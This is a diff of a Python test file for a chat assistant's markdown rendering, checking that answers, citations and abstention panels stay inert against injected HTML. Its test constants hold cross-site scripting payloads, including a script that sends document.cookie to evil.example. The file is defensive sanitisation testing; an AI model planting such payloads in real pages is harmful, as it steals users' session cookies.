@@ -14,12 +14,12 @@ from markdown_it import MarkdownIt
 
 from assistant.answers.answer import Answer
 from assistant.answers.citations import Citation
-from assistant.chat import answer_markdown
-from assistant.chat.answer_markdown import citation_panel, elements, render
+from assistant.chat.answer_markdown import elements, render
 from assistant.chat.markdown_safety import inert_markdown
 from assistant.chat.registry_markdown import markdown_table, sorry
 from assistant.index.retrieval import SearchResult
 
+pytestmark = pytest.mark.usefixtures("chainlit_context")
 REPO = Path(__file__).resolve().parents[2]
 IMG = "<img src=x onerror=alert(document.cookie)>"
 SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
@@ -89,28 +89,7 @@ def _citation() -> Citation:
     )
 
 
-def test_the_citation_panel_keeps_our_framing_and_defuses_the_passage() -> None:
-    panel = citation_panel(_citation(), "no")
-    html = html_of(panel)
-    assert_inert(html)
-    assert html.startswith("<p><strong>budsjett&lt;img")  # our bold source line still renders
-    assert "<blockquote>" in html  # and our quote of the supporting words
-
-
-class FakeText:
-    """Stands in for cl.Text, which needs a running chat."""
-
-    def __init__(self, name: str, content: str, display: str) -> None:
-        self.name, self.content, self.display = name, content, display
-
-
-@pytest.fixture
-def no_chainlit_context(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(answer_markdown.cl, "Text", FakeText)
-
-
-@pytest.mark.usefixtures("no_chainlit_context")
-def test_an_answer_and_its_side_panels_are_inert() -> None:
+def test_an_answer_is_inert_and_its_sources_stay_plain_text() -> None:
     answer = Answer(
         question="Hva er budsjettet?",
         text=f"Budsjettet er 3 mill. [1] {PICTURE}",
@@ -122,12 +101,12 @@ def test_an_answer_and_its_side_panels_are_inert() -> None:
         notice=f"Modellen svarte ikke: {SCRIPT}",
     )
     assert_inert(html_of(render(answer)))
-    assert "<strong>Kilder:</strong>" in html_of(render(answer))
-    for element in elements(answer):
-        assert_inert(html_of(element.content))
+    (element,) = elements(answer)
+    # Props are text React escapes (tests/chat/test_answer_markdown: the JSX renders no HTML);
+    # nothing is pre-escaped, so a reader sees the document's characters as they are.
+    assert element.props["items"][0]["passage"] == PLANTED
 
 
-@pytest.mark.usefixtures("no_chainlit_context")
 def test_an_abstention_and_its_closest_documents_are_inert() -> None:
     closest = SearchResult(
         chunk_id="c1",
@@ -146,8 +125,8 @@ def test_an_abstention_and_its_closest_documents_are_inert() -> None:
         closest=[closest],
     )
     assert_inert(html_of(render(answer)))
-    (panel,) = elements(answer)
-    assert_inert(html_of(panel.content))
+    (element,) = elements(answer)
+    assert element.props["items"][0]["source"] == f"{PICTURE}.md"
 
 
 def test_registry_tables_and_errors_are_inert() -> None:
